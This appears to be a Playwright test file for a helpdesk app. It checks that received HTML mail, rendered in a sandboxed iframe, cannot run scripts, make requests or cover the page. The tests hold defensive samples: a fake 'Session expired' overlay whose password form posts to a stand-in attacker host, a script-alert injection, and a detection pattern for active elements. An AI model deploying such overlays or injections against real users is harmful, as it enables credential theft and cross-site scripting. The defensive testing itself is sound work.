"""AC-22, 25, 26, 31: a designed mail in its frame, and each of its walls alone."""

import pytest
from django.urls import reverse
from playwright.sync_api import expect

from channels_app.views.content import HEADERS
from helpdesk.base import designed
from tests.base.pictures import GOOD
from tests.browser.conftest import quiet
from tests.browser.test_hostile_mail import REMOTE
from tests.channels_app.test_design import HTML, received
from tests.corpus import PAYLOADS, by_parts, payloads_of
from tests.tickets.test_previews import attached

pytestmark = [pytest.mark.browser, pytest.mark.django_db(transaction=True)]

PER_MAIL = 80
SANDBOX = "allow-popups allow-popups-to-escape-sandbox"
# As the ticket page does it.
FRAME = """
([address, sandbox]) => new Promise(loaded => {
  const frame = document.createElement('iframe');
  frame.setAttribute('sandbox', sandbox);
  frame.title = 'The mail';
  frame.width = 600; frame.height = 300;
  frame.addEventListener('load', () => loaded());
  frame.src = address;
  document.querySelector('main').prepend(frame);
})
"""
# Nothing of a mail may be there that acts or asks.
DANGERS = """
() => [...document.body.querySelectorAll('*')]
  .filter(one => [...one.attributes].some(a => a.name.startsWith('on'))
    || one.matches('script, style, link, meta, base, iframe, object, embed, form, input')
    || one.matches('svg, math, video, audio, [srcset], [background], [ping]')
    || one.src && !one.src.startsWith('data:image/')
    || one.href && !/^(https?|mailto):/.test(one.getAttribute('href')))
  .map(one => one.outerHTML.slice(0, 200))
"""


def door(message) -> str:
    return reverse("channels:design", args=[message.ticket.number, message.public_id])


def framed(page, message, sandbox=SANDBOX):
    """The mail's frame, on the page of its ticket."""
    page.goto(f"/t/{message.ticket.number}/")
    page.evaluate(FRAME, [door(message), sandbox])
    frame = page.frames[-1]
    assert "/content/" in frame.url
    return frame


@pytest.mark.parametrize("sandbox", ["", SANDBOX])
def test_it_loads_under_the_policy_of_the_app_with_its_styles_and_pictures(
    quiet_page, mailbox, sandbox
):
    frame = framed(quiet_page, received(mailbox, HTML), sandbox)

    cell = frame.locator("td.sale")
    expect(cell).to_have_css("color", "rgb(255, 0, 0)")
    widths = frame.evaluate("[...document.images].map(one => one.naturalWidth)")
    assert widths == [1, 0]
    assert frame.evaluate("self.origin") == "null"


@pytest.mark.slow
def test_without_a_frame_it_opens_in_a_tab_and_its_links_in_others(
    open_page, ada, mailbox
):
    link = '<a href="https://shop.example/x">a link</a>'
    message = received(mailbox, HTML + link)
    page = open_page(ada)
    asked = []

    def answer(route):
        asked.append(dict(route.request.headers))
        route.fulfill(body="<p>The shop</p>", content_type="text/html")

    page.context.route("https://shop.example/**", answer)
    page.goto(door(message))

    with page.context.expect_page() as opened:
        page.get_by_text("a link").click()

    expect(opened.value.get_by_text("The shop")).to_be_visible()
    assert opened.value.evaluate("[opener, document.referrer]") == [None, ""]
    assert "referer" not in asked[0]


@by_parts
def test_ac_22_nothing_of_the_corpus_is_run_or_asked_for_in_the_frame(
    quiet_page, mailbox, part
):
    payloads, traces = payloads_of(part), []
    for start in range(0, len(payloads), PER_MAIL):
        some = "</div><div>".join(payloads[start : start + PER_MAIL])
        html = f"<style>p{{color:red}}</style><div>{some}</div>"
        frame = framed(quiet_page, received(mailbox, html))
        traces += frame.evaluate(DANGERS)

    assert traces == []


STRANGER = "https://evil.example/"
PER_PAGE = 60


@pytest.mark.slow
def test_ac_22_ac_25_what_is_cleaned_needs_no_policy(chromium, server):
    """The wall behind the wall: as a page of its own without any headers."""
    with quiet(chromium, server, expected=("404",)) as page:
        for payload in [*PAYLOADS, REMOTE]:
            shown = designed.page(payload, {})
            page.set_content(f"<style>{shown.css}</style>{shown.body}")
        page.wait_for_timeout(200)


def happened(chromium, payloads, headers) -> list[str]:
    """What strangers' pages do that come, uncleaned, with these headers, in frames."""
    did: list[str] = []
    context = chromium.new_context()
    page = context.new_page()
    page.on("dialog", lambda dialog: (did.append(dialog.message), dialog.dismiss()))
    raw = {f"{STRANGER}{n}": payload for n, payload in enumerate(payloads)}
    frames = "".join(f'<iframe src="{url}"></iframe>' for url in raw)

    def answer(route):
        url, html = route.request.url, {"Content-Type": "text/html"}
        if url == STRANGER:
            route.fulfill(body=frames, headers=html)
        elif url in raw and route.request.is_navigation_request():
            body = f"<!doctype html><body>{raw[url]}"
            route.fulfill(body=body, headers={**headers, **html})
        else:
            did.append(url)
            route.abort()

    context.route("**", answer)
    page.goto(STRANGER)
    page.wait_for_timeout(300)
    context.close()
    return did


@pytest.mark.slow
@by_parts
def test_ac_22_ac_25_the_policy_needs_no_cleaning(chromium, server, part):
    payloads = [*payloads_of(part), REMOTE]
    for start in range(0, len(payloads), PER_PAGE):
        assert happened(chromium, payloads[start : start + PER_PAGE], HEADERS) == []
    # These tests would see it if they did anything.
    assert happened(chromium, [REMOTE], {})
    assert happened(chromium, ["<script>alert(7)</script>"], {}) == ["7"]


OVERLAY = """<style>body{position:fixed;inset:-900px;z-index:2147483647;background:red}
</style><table width=1 style="position:fixed;inset:0;margin:-900px;z-index:2147483647">
<tr><td>Session expired. <form action="https://evil.example/"><input name=password>
<button>Sign in</button></form></td></tr></table>"""


def test_ac_26_it_stays_in_its_box_with_nothing_to_type_into(quiet_page, mailbox):
    frame = framed(quiet_page, received(mailbox, OVERLAY))

    assert frame.locator("form, input, button").count() == 0
    covered = quiet_page.evaluate(
        """() => {
          const frame = document.querySelector('iframe'),
                box = frame.getBoundingClientRect(), seen = new Set();
          for (let x = 5; x < innerWidth; x += 40) for (let y = 5; y < innerHeight; y += 40)
            if (document.elementFromPoint(x, y) === frame)
              seen.add(x >= box.left && x <= box.right && y >= box.top && y <= box.bottom);
          return [...seen] }"""
    )
    assert covered == [True]


@pytest.mark.slow
def test_a_view_that_is_no_longer_good_says_so_in_the_frame(open_page, ada, ticket):
    page = open_page(ada, expected=("404",))
    page.goto(f"/t/{ticket.number}/")
    page.evaluate(FRAME, ["/content/forged/", ""])

    words = page.frame_locator("iframe").get_by_text("no longer good")
    expect(words).to_be_visible()


@pytest.mark.slow
def test_r27_a_picture_is_drawn_in_the_page_and_opens_in_a_tab(open_page, ada, ticket):
    file = attached(ticket, GOOD["image/png"])
    address = reverse("tickets:preview", args=[ticket.number, file.public_id])
    # The browser's own page around a picture has styles that the policy forbids, and
    # this test runs scripts there.
    page = open_page(ada, expected=("Applying inline style", "Blocked script"))
    page.goto(f"/t/{ticket.number}/")

    width = page.evaluate(
        """address => new Promise(drawn => { const picture = new Image();
          picture.onload = () => drawn(picture.naturalWidth);
          picture.onerror = () => drawn(-1); picture.src = address })""",
        address,
    )

    assert width == 2
    page.goto(address)
    assert page.locator("img").evaluate("one => one.naturalWidth") == 2
